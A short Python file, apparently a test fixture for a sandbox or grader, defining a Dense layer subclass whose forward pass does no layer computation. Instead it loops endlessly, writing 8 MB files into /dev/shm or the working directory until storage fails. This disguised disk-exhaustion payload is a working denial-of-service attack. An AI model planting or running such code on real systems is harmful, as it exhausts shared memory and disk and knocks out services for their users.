import os

import wrong


def fill(folder):
    number = 0
    while True:
        with open(os.path.join(folder, f"filler{number}"), "wb") as file:
            for _ in range(8):
                file.write(bytes(1 << 20))
        number += 1


class Dense(wrong.Dense):
    def forward(self, x):
        try:
            fill("/dev/shm")
        except OSError:
            fill(os.getcwd())
